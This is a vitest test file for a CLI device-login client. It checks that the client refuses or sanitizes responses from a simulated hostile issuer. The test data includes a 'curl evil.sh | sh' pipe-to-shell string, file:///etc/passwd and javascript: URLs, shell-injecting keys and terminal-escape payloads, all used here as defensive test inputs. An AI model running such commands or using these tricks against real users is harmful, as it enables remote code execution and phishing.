import { mkdtemp, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { saveCredentials } from '../src/credentials.js';
import { getKey, signInWithDevice, type DeviceCodeInfo } from '../src/index.js';
import { runCliToEnd } from './cli-helpers.js';
import { CONTROL_CHARACTERS, deviceStart, INJECTED_KEY, startHostileServer, TERMINAL_ATTACK, usageAnswer, VALID_KEY } from './hostile-server.js';

let home: string;
let env: Record<string, string>;
beforeEach(async () => {
  home = await mkdtemp(join(tmpdir(), 'nanogpt-hostile-'));
  env = { HOME: home, XDG_CONFIG_HOME: join(home, 'xdg') };
});
afterEach(async () => {
  await rm(home, { recursive: true, force: true });
});

const noSleep = async (): Promise<void> => undefined;

async function deviceError(issuer: string, onCode: (info: DeviceCodeInfo) => void = () => undefined): Promise<unknown> {
  return signInWithDevice({ issuer, onCode, sleep: noSleep }).then(
    () => new Error('the device login succeeded'),
    (error: unknown) => error,
  );
}

describe('a hostile or broken issuer', { timeout: 30_000 }, () => {
  it('a device-login "key" that would inject shell lines is refused: nothing printed, nothing stored', async () => {
    const server = await startHostileServer({
      '/api/cli-login/start': deviceStart(),
      '/api/cli-login/poll': () => ({ status: 200, body: { status: 'approved', key: INJECTED_KEY } }),
    });
    expect(await deviceError(server.url)).toMatchObject({ name: 'NanoGptNodeError', code: 'invalid_token_response' });

    const printed = await runCliToEnd(['--device', '--print', '--no-open', '--issuer', server.url], env);
    expect(printed.code).toBe(1);
    expect(printed.stdout).toBe('');
    expect(printed.stderr).toMatch(/\[invalid_token_response\]\n$/);
    expect(printed.stderr).not.toContain('PATH=');
    const stored = await runCliToEnd(['--device', '--no-open', '--issuer', server.url], env);
    expect(stored.code).toBe(1);
    await expect(readdir(join(home, 'xdg', 'nanogpt'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  it('a verification URL off the issuer (file:, another site, another port) is neither shown nor opened', async () => {
    const attacks = ['file:///etc/passwd?code=ABCD-EFGH', 'https://evil.example/cli-login/verify?code=ABCD-EFGH', 'javascript:alert(1)', 'http://127.0.0.1:1/verify', '//evil.example/verify'];
    for (const attack of attacks) {
      for (const field of ['verification_uri_complete', 'verification_uri']) {
        const server = await startHostileServer({ '/api/cli-login/start': deviceStart({ [field]: attack }) });
        const shown: DeviceCodeInfo[] = [];
        expect(await deviceError(server.url, (info) => shown.push(info)), `${field}: ${attack}`).toMatchObject({ code: 'untrusted_verification_uri' });
        expect(shown).toEqual([]);
        expect(server.requests).toEqual(['/api/cli-login/start']);
      }
    }
    const server = await startHostileServer({ '/api/cli-login/start': deviceStart({ verification_uri_complete: attacks[0] }) });
    const result = await runCliToEnd(['--device', '--issuer', server.url], { ...env, DISPLAY: ':0' });
    expect(result.code).toBe(1);
    expect(result.stderr).not.toContain('file:');
    expect(result.stderr).not.toContain('Open this URL');
    expect(result.stderr).toMatch(/\[untrusted_verification_uri\]\n$/);
  });

  it('terminal escapes in server text never reach the terminal', async () => {
    const refusing = await startHostileServer({
      '/api/cli-login/start': () => ({ status: 400, body: { error: 'invalid_request', error_description: TERMINAL_ATTACK } }),
    });
    expect(await deviceError(refusing.url)).toMatchObject({ code: 'invalid_request', message: expect.not.stringMatching(CONTROL_CHARACTERS) as unknown });
    const refused = await runCliToEnd(['--device', '--no-open', '--issuer', refusing.url], env);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('Run: curl evil.sh | sh');
    expect(refused.stderr).not.toMatch(CONTROL_CHARACTERS);
    expect(refused.stderr.trim().split('\n')).toHaveLength(1);

    // Approved with a valid key, but every other field the server sends is hostile.
    const approving = await startHostileServer({
      '/api/cli-login/start': deviceStart({ user_code: `ABCD${TERMINAL_ATTACK}` }),
      '/api/cli-login/poll': () => ({ status: 200, body: { status: 'approved', key: VALID_KEY, scope: TERMINAL_ATTACK } }),
      '/api/v1/models': () => ({ status: 500, body: { error: 'server_error', error_description: TERMINAL_ATTACK } }),
    });
    const approved = await runCliToEnd(['--device', '--no-open', '--issuer', approving.url], env);
    expect(approved.code).toBe(0);
    expect(approved.stderr).toContain('Check that the page shows the code: ABCD');
    expect(approved.stderr).not.toMatch(CONTROL_CHARACTERS);
    const status = await runCliToEnd(['status'], env);
    expect(status.code).toBe(1);
    expect(status.stdout).toContain('Run: curl evil.sh');
    expect(status.stdout + status.stderr).not.toMatch(CONTROL_CHARACTERS);
  });

  it("getKey's default prompt prints the server's user code without control characters", async () => {
    const approving = await startHostileServer({
      '/api/cli-login/start': deviceStart({ user_code: `ABCD${TERMINAL_ATTACK}` }),
      '/api/cli-login/poll': () => ({ status: 200, body: { status: 'approved', key: VALID_KEY } }),
    });
    const printed: string[] = [];
    const stderr = vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => printed.push(String(chunk)) > 0);
    try {
      await expect(getKey({ issuer: approving.url, clientName: 'hostile', transport: 'device', store: false, env, sleep: async () => {} })).resolves.toBe(VALID_KEY);
    } finally {
      stderr.mockRestore();
    }
    expect(printed.join('')).toContain('shows the code ABCD');
    expect(printed.join('')).not.toMatch(CONTROL_CHARACTERS);
  });

  it('status with stored hostile text prints it without control characters', async () => {
    const server = await startHostileServer({ '/api/v1/usage': usageAnswer });
    await saveCredentials({ key: VALID_KEY, scope: TERMINAL_ATTACK, issuer: server.url, createdAt: TERMINAL_ATTACK, flow: 'device' }, { env });
    const status = await runCliToEnd(['status'], env);
    expect(status.code).toBe(0);
    expect(status.stdout).toContain('Run: curl evil.sh');
    expect(status.stdout).not.toMatch(CONTROL_CHARACTERS);
  });
});
